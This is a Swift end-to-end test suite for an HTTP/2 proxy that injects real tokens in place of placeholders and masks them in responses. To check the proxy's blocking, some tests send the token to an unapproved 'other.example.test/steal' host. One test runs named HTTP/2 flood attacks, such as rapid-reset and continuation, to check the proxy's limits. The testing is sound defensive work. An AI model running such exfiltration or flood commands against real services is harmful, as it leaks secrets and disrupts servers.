import Foundation
import Testing

/// HTTP/2 through `keyhole proxy --interface`: real clients in the guest namespace (curl
/// --http2, Python httpx with http2, grpcio) against real HTTP/2 servers (the h2 library,
/// grpcio) in the internet namespace. h2 is offered to the guest only where the upstream
/// chose it; every stream goes through the engine with the HTTP/1.1 rules.
@Suite("HTTP/2 end to end", .serialized, .enabled(if: isRoot, "needs root for network namespaces"))
struct HTTP2EndToEndTests {
    static let realValue = "h2-real-token-000000017"
    static let policy = ApplianceEndToEndTests.policy.replacingOccurrences(of: ApplianceEndToEndTests.realValue, with: realValue)

    /// Starts a Python fixture (`/usr/bin/python3`: Debian's h2 and grpcio) in the internet
    /// namespace and waits for its "ready".
    static func serve(_ harness: ProxyHarness, _ script: String, _ arguments: [String], name: String) throws {
        let ready = harness.directory + "/\(name).ready"
        let process = try harness.spawn(
            "/usr/sbin/ip", ["netns", "exec", harness.internetNamespace, "/usr/bin/python3", ProxyHarness.fixture(script)] + arguments,
            stdout: ready, stderr: harness.directory + "/\(name).err")
        harness.processes.append(process)
        try harness.waitFor(file: ready, containing: "ready")
    }

    /// An HTTP/2 server (Fixtures/upstream_h2.py) at `ip`:443 with the certificate `cert`.
    static func upstreamH2(_ harness: ProxyHarness, _ ip: String, cert: String, extra: [String] = []) throws -> String {
        let log = harness.directory + "/h2-\(ip).log"
        _ = FileManager.default.createFile(atPath: log, contents: nil)
        try serve(
            harness, "upstream_h2.py",
            ["--bind", ip, "--port", "443", "--cert", "\(harness.directory)/\(cert).pem", "--key", "\(harness.directory)/\(cert).key", "--log", log]
                + extra, name: "h2-\(ip)")
        return log
    }

    func curl(_ harness: ProxyHarness, _ url: String, _ options: String = "") throws -> CLI.Result {
        try harness.guestCurl(url, "--http2 " + options)
    }

    /// `--idle-timeout` on HTTP/2: a connection on which neither leg reads anything for it is
    /// reset; one whose guest keeps sending frames (PINGs, answered by Keyhole's HTTP/2
    /// handler) is not. Raw frames over TLS with ALPN h2, so nothing else talks meanwhile.
    @Test func aQuietHTTP2ConnectionIsResetAfterTheIdleTimeoutAndABusyOneIsNot() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        _ = try Self.upstreamH2(harness, "203.0.113.10", cert: "api.example.test")
        try harness.startProxy(policy: Self.policy, extra: ["--idle-timeout", "1"])
        let result = try harness.guest(
            """
            /usr/bin/python3 - <<'EOF'
            import socket, ssl, struct, threading, time
            ctx = ssl.create_default_context(cafile='\(harness.stateDirectory)/ca.pem')
            ctx.set_alpn_protocols(['h2'])
            def frame(kind, flags, payload):
                return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + struct.pack('>I', 0) + payload
            def connect():
                s = ctx.wrap_socket(socket.create_connection(('203.0.113.10', 443), timeout=10), server_hostname='api.example.test')
                assert s.selected_alpn_protocol() == 'h2', s.selected_alpn_protocol()
                s.sendall(b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + frame(4, 0, b''))
                return s
            def busy():
                s = connect()
                for i in range(8):
                    s.sendall(frame(6, 0, b'ping%04d' % i))
                    time.sleep(0.4)
                s.sendall(frame(6, 0, b'lastping'))
                data, deadline = b'', time.time() + 5
                try:
                    while b'lastping' not in data and time.time() < deadline:
                        chunk = s.recv(65536)
                        if not chunk:
                            break
                        data += chunk
                except OSError as e:
                    print('busy error', e)
                print('busy ok' if b'lastping' in data else 'busy closed')
            \(ProxyHarness.watchQuietPython)
            t = threading.Thread(target=busy)
            t.start()
            q = connect()
            def drain():
                while q.recv(65536):
                    pass
            watch_quiet(drain)
            t.join()
            EOF
            """)
        #expect(result.stdout.contains("busy ok"), "\(result.all)")
        let seconds = ProxyHarness.secondsUntilQuietClosed(result.stdout)
        #expect(seconds.map { $0 >= 0.8 && $0 < 3 } == true, "\(result.all)")
    }

    @Test func curlAndHttpxSpeakHTTP2AndAreSubstituted() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let log = try Self.upstreamH2(harness, "203.0.113.10", cert: "api.example.test")
        try harness.startProxy(policy: Self.policy)

        let ok = try curl(harness, "https://api.example.test/first", "-H 'Authorization: Bearer $MSB_TOKEN' -w '%{http_version}'")
        #expect(ok.stdout == "ok\n2", "\(ok.all)\n\(harness.audit)\n\(harness.stderr)\n\((try? String(contentsOfFile: harness.directory + "/h2-203.0.113.10.err", encoding: .utf8)) ?? "")")
        let basic = try curl(harness, "https://api.example.test/basic", "-u 'user:$MSB_TOKEN' -w '%{http_version}'")
        #expect(basic.stdout == "ok\n2", "\(basic.all)")
        let httpx = try harness.guest(
            "/usr/bin/python3 -c \"import httpx; c = httpx.Client(http2=True, verify='\(harness.stateDirectory)/ca.pem'); "
                + "r = c.get('https://api.example.test/httpx', headers={'x-api-key': '\\$MSB_TOKEN'}); "
                + "r2 = c.get('https://api.example.test/again', headers={'x-api-key': '\\$MSB_TOKEN'}); print(r.http_version, r.text.strip(), r2.text.strip())\"")
        #expect(httpx.stdout == "HTTP/2 ok ok\n", "\(httpx.all)")

        let records = harness.records(log)
        #expect(records.count == 4, "\(records)")
        #expect(records.allSatisfy { $0["protocol"] as? String == "h2" })
        #expect(harness.header(records.first ?? [:], "authorization") == "Bearer \(Self.realValue)")
        let basicValue = "Basic " + Data("user:\(Self.realValue)".utf8).base64EncodedString()
        #expect(records.count > 1 && harness.header(records[1], "authorization") == basicValue)
        #expect(records.count > 3 && harness.header(records[3], "x-api-key") == Self.realValue)
        #expect(records.first?["authority"] as? String == "api.example.test")
        #expect(harness.audit.contains("\"event\":\"substituted\""))
        #expect(try harness.metricsText().split(separator: "\n").contains { $0.hasPrefix("keyhole_connections_total{") && $0.contains("kind=\"http2\"") })
        for text in [harness.audit, harness.stderr] { #expect(!text.contains(Self.realValue)) }
    }

    @Test func responsesAreMaskedOnEveryStream() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        _ = try Self.upstreamH2(harness, "203.0.113.10", cert: "api.example.test")
        try harness.startProxy(policy: Self.policy)
        // The upstream hands the token back in a header, in the body (in 7-byte DATA
        // frames: the value split across frames) and in a trailer.
        let reflected = try curl(harness, "https://api.example.test/reflect", "-D - -H 'Authorization: Bearer $MSB_TOKEN'")
        #expect(reflected.status == 0, "\(reflected.all)")
        #expect(!reflected.stdout.contains(Self.realValue), "\(reflected.stdout)")
        #expect(reflected.stdout.contains("x-token: $MSB_TOKEN"), "\(reflected.stdout)")
        #expect(reflected.stdout.contains("{\"token\": \"$MSB_TOKEN"), "\(reflected.stdout)")
        // httpx reads the trailers' stream end too; h2 itself shows the trailer.
        let trailers = try harness.guest(
            """
            /usr/bin/python3 - <<'EOF'
            import socket, ssl, h2.connection, h2.events, h2.config
            ctx = ssl.create_default_context(cafile="\(harness.stateDirectory)/ca.pem"); ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(socket.create_connection(("api.example.test", 443)), server_hostname="api.example.test")
            c = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8")); c.initiate_connection()
            c.send_headers(1, [(":method", "GET"), (":scheme", "https"), (":path", "/reflect"), (":authority", "api.example.test"),
                               ("authorization", "Bearer $MSB_TOKEN")], end_stream=True)
            s.sendall(c.data_to_send()); done = False
            while not done:
                for e in c.receive_data(s.recv(65536)):
                    if isinstance(e, h2.events.TrailersReceived): print("trailers", dict(e.headers))
                    if isinstance(e, h2.events.StreamEnded): done = True
                s.sendall(c.data_to_send())
            EOF
            """)
        #expect(trailers.stdout.contains("'x-token-trailer': '$MSB_TOKEN"), "\(trailers.all)")
        #expect(!trailers.stdout.contains(Self.realValue))
        #expect(harness.audit.contains("\"event\":\"masked\""), "\(harness.audit)")
    }

    @Test func aPlaceholderInADataFrameToAnotherHostIsBlocked() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let api = try Self.upstreamH2(harness, "203.0.113.10", cert: "api.example.test")
        let other = try Self.upstreamH2(harness, "203.0.113.11", cert: "other.example.test")
        try harness.startProxy(policy: Self.policy)
        let elsewhere = try curl(harness, "https://other.example.test/echo", "--data 'token=$MSB_TOKEN'")
        #expect(elsewhere.status != 0 && !elsewhere.stdout.contains("token"), "\(elsewhere.all)")
        #expect(harness.records(other).isEmpty)
        // In a body to the allowed host without inject.body: a violation too; the
        // connection's other streams go on (the stream is reset, not the connection).
        let body = try curl(harness, "https://api.example.test/echo", "--data 'token=$MSB_TOKEN'")
        #expect(body.status != 0, "\(body.all)")
        let violations = harness.audit.split(separator: "\n").filter { $0.contains("\"event\":\"violation\"") }
        #expect(violations.count == 2, "\(harness.audit)")
        #expect(violations.allSatisfy { $0.contains("\"site\":\"body\"") })
        #expect(harness.records(api).isEmpty)
        let script = """
            import socket, ssl, h2.connection, h2.events, h2.config
            ctx = ssl.create_default_context(cafile="\(harness.stateDirectory)/ca.pem"); ctx.set_alpn_protocols(["h2"])
            s = ctx.wrap_socket(socket.create_connection(("api.example.test", 443)), server_hostname="api.example.test")
            c = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8")); c.initiate_connection()
            base = [(":method", "POST"), (":scheme", "https"), (":authority", "api.example.test")]
            c.send_headers(1, base + [(":path", "/echo")]); c.send_data(1, b"a $MSB_TO"); s.sendall(c.data_to_send())
            c.send_data(1, b"KEN split", end_stream=True)
            c.send_headers(3, base + [(":path", "/fine")]); c.send_data(3, b"nothing here", end_stream=True)
            s.sendall(c.data_to_send()); ended = set()
            while len(ended) < 2:
                data = s.recv(65536)
                if not data: break
                for e in c.receive_data(data):
                    if isinstance(e, h2.events.StreamReset): print("reset", e.stream_id, e.error_code); ended.add(e.stream_id)
                    if isinstance(e, h2.events.DataReceived): print("data", e.stream_id, e.data)
                    if isinstance(e, h2.events.StreamEnded): ended.add(e.stream_id)
                s.sendall(c.data_to_send())
            """
        let split = try harness.guest("/usr/bin/python3 - <<'EOF'\n\(script)\nEOF")
        // A placeholder split across two DATA frames is still found; stream 3 is answered.
        #expect(split.stdout.contains("reset 1 8"), "\(split.all)\n\(harness.audit)")
        #expect(split.stdout.contains("data 3 b'ok\\n'"), "\(split.all)")
        #expect(harness.records(api).count == 1)
        for text in [harness.audit, harness.stderr] { #expect(!text.contains(Self.realValue)) }
    }

    @Test func withBlockResponseHTTPTheBlockedStreamIsAnswered403() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let other = try Self.upstreamH2(harness, "203.0.113.11", cert: "other.example.test")
        try harness.startProxy(policy: Self.policy.replacingOccurrences(of: "  on_secret_violation: block-and-log", with: "  on_secret_violation: block-and-log\n  block_response: http"))
        let blocked = try curl(harness, "https://other.example.test/steal", "-H 'Authorization: Bearer $MSB_TOKEN' -w ' %{http_code} %{http_version}'")
        #expect(blocked.stdout.hasPrefix("{\"error\":\"blocked_by_keyhole\",\"secret\":\"TOKEN\",\"host\":\"other.example.test\""), "\(blocked.all)")
        #expect(blocked.stdout.hasSuffix(" 403 2"), "\(blocked.all)")
        #expect(harness.records(other).isEmpty)
        #expect(harness.audit.contains("\"response\":\"http-403\""), "\(harness.audit)")
        // A blocked body upload too: the guest gets the 403, not a hang.
        let upload = try curl(harness, "https://other.example.test/up", "--data 'x=$MSB_TOKEN' -w ' %{http_code}'")
        #expect(upload.stdout.hasSuffix(" 403"), "\(upload.all)")
    }

    @Test func bodySubstitutionAcrossDataFrames() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let api = try Self.upstreamH2(harness, "203.0.113.10", cert: "api.example.test")
        try harness.startProxy(policy: Self.policy.replacingOccurrences(of: "    allow_hosts: [api.example.test]", with: "    allow_hosts: [api.example.test]\n    inject: { body: true }"))
        let echoed = try curl(harness, "https://api.example.test/echo", "--data-binary 'key=$MSB_TOKEN&more=1'")
        // The upstream got the real value; what it echoed comes back masked.
        #expect(echoed.stdout.hasPrefix("key=$MSB_TOKEN") && !echoed.stdout.contains(Self.realValue), "\(echoed.all)\n\(harness.audit)")
        let records = harness.records(api)
        #expect(records.first?["body"] as? String == "key=\(Self.realValue)&more=1")
        // The body's length changed: no stale content-length went upstream.
        #expect(harness.header(records.first ?? [:], "content-length") == nil)
    }

    @Test func anUpstreamWithoutHTTP2KeepsTheGuestOnHTTP1() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let log = try harness.upstream("203.0.113.10", port: 443, cert: "api.example.test")
        try harness.startProxy(policy: Self.policy)
        let ok = try curl(harness, "https://api.example.test/h1", "-H 'Authorization: Bearer $MSB_TOKEN' -w '%{http_version}'")
        #expect(ok.stdout == "ok\n1.1", "\(ok.all)\n\(harness.audit)")
        #expect(harness.header(harness.records(log).first ?? [:], "Authorization") == "Bearer \(Self.realValue)")
        // A guest that offers only h2 (as gRPC does) gets no protocol it can use: it fails
        // instead of speaking HTTP/2 to an HTTP/1.1 path.
        let only = try harness.guest(
            "/usr/bin/python3 -c \"import ssl, socket; c = ssl.create_default_context(cafile='\(harness.stateDirectory)/ca.pem'); c.set_alpn_protocols(['h2']); "
                + "s = c.wrap_socket(socket.create_connection(('api.example.test', 443)), server_hostname='api.example.test'); print('alpn', s.selected_alpn_protocol())\"")
        #expect(only.stdout == "alpn None\n", "\(only.all)")
    }

    @Test func grpcUnaryAndStreamingCallsCarryTheRealToken() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        let log = harness.directory + "/grpc.log"
        try Self.serve(
            harness, "grpc_peer.py",
            ["server", "--bind", "203.0.113.10", "--port", "443", "--cert", "\(harness.directory)/api.example.test.pem",
             "--key", "\(harness.directory)/api.example.test.key", "--log", log], name: "grpc")
        try harness.startProxy(policy: Self.policy)
        let call = try harness.guest(
            "GRPC_DNS_RESOLVER=native /usr/bin/python3 \(ProxyHarness.fixture("grpc_peer.py")) client --target api.example.test:443 "
                + "--cafile \(harness.stateDirectory)/ca.pem --token '$MSB_TOKEN'", timeout: 40)
        let lines = call.stdout.split(separator: "\n").map(String.init)
        // The server answers with the token it received: masked on the way back.
        #expect(lines.first?.hasPrefix("unary unary:$MSB_TOKEN") == true, "\(call.all)\n\(harness.audit)")
        #expect(Array(lines.dropFirst()) == ["stream echo:one", "stream echo:two", "stream echo:three"], "\(call.all)")
        let records = (try? String(contentsOfFile: log, encoding: .utf8))?.split(separator: "\n") ?? []
        #expect(records.count == 2)
        #expect(records.allSatisfy { $0.contains("\"authorization\": \"Bearer \(Self.realValue)\"") }, "\(records)")
        #expect(!call.stdout.contains(Self.realValue))
        for text in [harness.audit, harness.stderr] { #expect(!text.contains(Self.realValue)) }
    }

    @Test func knownHTTP2AttacksKeepTheProxyBoundedAndServing() throws {
        let harness = try ProxyHarness(mode: .appliance)
        defer { harness.close() }
        _ = try Self.upstreamH2(harness, "203.0.113.10", cert: "api.example.test")
        try harness.startProxy(policy: Self.policy)
        let pid = try #require(try harness.proxyPID())
        func rss() -> Int {
            let status = (try? String(contentsOfFile: "/proc/\(pid)/status", encoding: .utf8)) ?? ""
            let line = status.split(separator: "\n").first { $0.hasPrefix("VmRSS:") } ?? ""
            return Int(line.split(separator: " ").dropFirst().first ?? "") ?? 0
        }
        /// utime + stime, in clock ticks (100 per second).
        func cpuTicks() -> Int {
            let stat = (try? String(contentsOfFile: "/proc/\(pid)/stat", encoding: .utf8)) ?? ""
            let fields = stat.split(separator: ")").last?.split(separator: " ") ?? []
            return fields.count > 12 ? (Int(fields[11]) ?? 0) + (Int(fields[12]) ?? 0) : 0
        }
        #expect(try curl(harness, "https://api.example.test/warm").stdout == "ok\n")
        let before = rss()
        let cpuBefore = cpuTicks()
        func attack(_ mode: String, count: Int) throws -> String {
            try harness.guest(
                "/usr/bin/python3 \(ProxyHarness.fixture("h2_attack.py")) \(mode) --host api.example.test --cafile \(harness.stateDirectory)/ca.pem --count \(count)",
                timeout: 60
            ).stdout
        }
        // Each ends the connection with GOAWAY: ENHANCE_YOUR_CALM (11) for the floods,
        // PROTOCOL_ERROR (1) for a client's PUSH_PROMISE.
        let rapid = try attack("rapid-reset", count: 20000)
        #expect(rapid.contains("goaway 11"), "\(rapid)")
        let continuation = try attack("continuation", count: 100000)
        #expect(continuation.contains("goaway"), "\(continuation)")
        let ping = try attack("ping-flood", count: 50000)
        #expect(ping.contains("goaway 11"), "\(ping)")
        let settings = try attack("settings-flood", count: 50000)
        #expect(settings.contains("goaway 11"), "\(settings)")
        let push = try attack("push-promise", count: 1)
        #expect(push.contains("goaway 1"), "\(push)")
        // A header list over 64 KiB: refused before it is ever decoded into fields.
        let big = try attack("big-headers", count: 1)
        #expect(big.contains("goaway") || big.contains("closed"), "\(big)")
        #expect(!harness.audit.contains("\"event\":\"substituted\""))
        // The floods cost the proxy little CPU: each is cut off early.
        let cpu = Double(cpuTicks() - cpuBefore) / 100
        #expect(cpu < 10, "the attacks took \(cpu) s of the proxy's CPU")
        // Memory stays bounded, and the proxy still serves.
        let after = rss()
        #expect(after - before < 64 * 1024, "RSS grew from \(before) kB to \(after) kB")
        #expect(try curl(harness, "https://api.example.test/after").stdout == "ok\n")
    }
}
